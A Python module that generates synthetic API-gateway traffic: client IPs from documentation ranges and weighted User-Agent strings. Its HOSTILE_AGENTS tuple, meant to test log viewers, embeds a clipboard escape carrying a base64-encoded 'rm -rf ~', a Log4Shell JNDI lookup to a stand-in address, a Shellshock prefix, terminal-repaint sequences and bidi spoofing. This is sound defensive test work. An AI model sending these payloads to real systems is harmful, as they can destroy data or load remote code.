"""Who calls the estate's APIs: client addresses and User-Agents, for the history and the live traffic.

A public API is called from thousands of addresses, a few of them (partners' servers, NAT gateways,
office egress) far more than the rest, by apps, browsers, SDKs and monitors: the top-talkers and
user-agent breakdowns an operator reads in an incident need that spread. Addresses come from the
documentation ranges (RFC 5737 for IPv4, 2001:db8::/32 for IPv6, RFC 3849): realistic, never anyone's.
Popularity is repetition in one tuple, so each pick is still one `rng.choice`.
"""

from __future__ import annotations

import random

_IPV4_BLOCKS = ("192.0.2", "198.51.100", "203.0.113")
_IPV6_CLIENTS = 2_400  # dual-stack mobile clients, each a /64 of its carrier's
_HEAVY = 24  # addresses that each send as much as dozens of others: partners' servers, NAT gateways


def _addresses() -> tuple[str, ...]:
    draw = random.Random("apigw-console client addresses")
    ipv4 = [f"{block}.{host}" for block in _IPV4_BLOCKS for host in range(1, 255)]
    draw.shuffle(ipv4)
    ipv6 = [f"2001:db8:{draw.randrange(0x10000):x}:{draw.randrange(0x10000):x}::{draw.randrange(1, 0x10000):x}"
            for _ in range(_IPV6_CLIENTS)]
    everyone = ipv4[:_HEAVY] + [a for pair in zip(ipv4[_HEAVY:], ipv6) for a in pair] + ipv6[len(ipv4) - _HEAVY:]
    # rank r sends about 1/r^0.9 as much as the first: the heaviest dozens of times a typical client's
    return tuple(a for rank, a in enumerate(everyone, 1) for _ in range(max(1, round(60 / rank ** 0.9))))


CLIENT_IPS = _addresses()

# (User-Agent, weight): the shop's own apps, browsers (web storefront via the BFF), partners' SDKs and
# scripts, and monitors.
_AGENTS = (
    ("ShopApp/6.14.2 (iPhone; iOS 17.5.1; Scale/3.00)", 14),
    ("ShopApp/6.13.0 (iPhone; iOS 16.7.8; Scale/3.00)", 4),
    ("ShopApp/6.14.1 (Android 14; Pixel 8; okhttp/4.12.0)", 11),
    ("ShopApp/6.12.3 (Android 13; SM-A536B; okhttp/4.11.0)", 5),
    ("okhttp/4.12.0", 3),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 "
     "Safari/537.36", 9),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 "
     "Safari/605.1.15", 6),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
     "Version/17.5 Mobile/15E148 Safari/604.1", 7),
    ("Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0", 2),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 "
     "Safari/537.36 Edg/131.0.0.0", 2),
    ("Amazon CloudFront", 6),
    ("python-requests/2.32.3", 4),
    ("Boto3/1.35.76 md/Botocore#1.35.76 ua/2.0 os/linux#5.10.228 lang/python#3.12.7", 2),
    ("axios/1.7.9", 3),
    ("Go-http-client/2.0", 3),
    ("Apache-HttpClient/5.3.1 (Java/17.0.11)", 3),
    ("node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", 1),
    ("Faraday v2.12.2", 1),
    ("PostmanRuntime/7.42.0", 1),
    ("curl/8.5.0", 1),
    ("Datadog/Synthetics", 1),
    ("Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)", 1),
)
USER_AGENTS = tuple(agent for agent, weight in _AGENTS for _ in range(weight))

# What internet scanners send: terminal escapes (OSC 52 writes a clipboard, CSI repaints a screen),
# console markup, template and shell injections, bidi controls. About one request in HOSTILE_EVERY
# carries one, so every view of the logs meets hostile text within a minute (never a quote: API
# Gateway does not escape it, and a broken JSON line is a different test).
HOSTILE_AGENTS = (
    "\x1b]52;c;cm0gLXJmIH4=\x07scanner/1.0",
    "\x1b[2J\x1b[1;1H RO  fake header",
    "[@click=app.quit]free[/] [link=http://example.com]prize[/link]",
    "${jndi:ldap://203.0.113.66/a} () { :; }; /bin/true",
    "Mozilla/5.0 \u202egnp.exe \x9b31m",
)
HOSTILE_EVERY = 97


def user_agent(rng: random.Random, epoch_ms: int) -> str:
    """A client's User-Agent; now and then a scanner's (chosen by time, so the random stream is unchanged)."""
    agent = rng.choice(USER_AGENTS)
    return HOSTILE_AGENTS[epoch_ms // HOSTILE_EVERY % len(HOSTILE_AGENTS)] if epoch_ms % HOSTILE_EVERY == 0 else agent
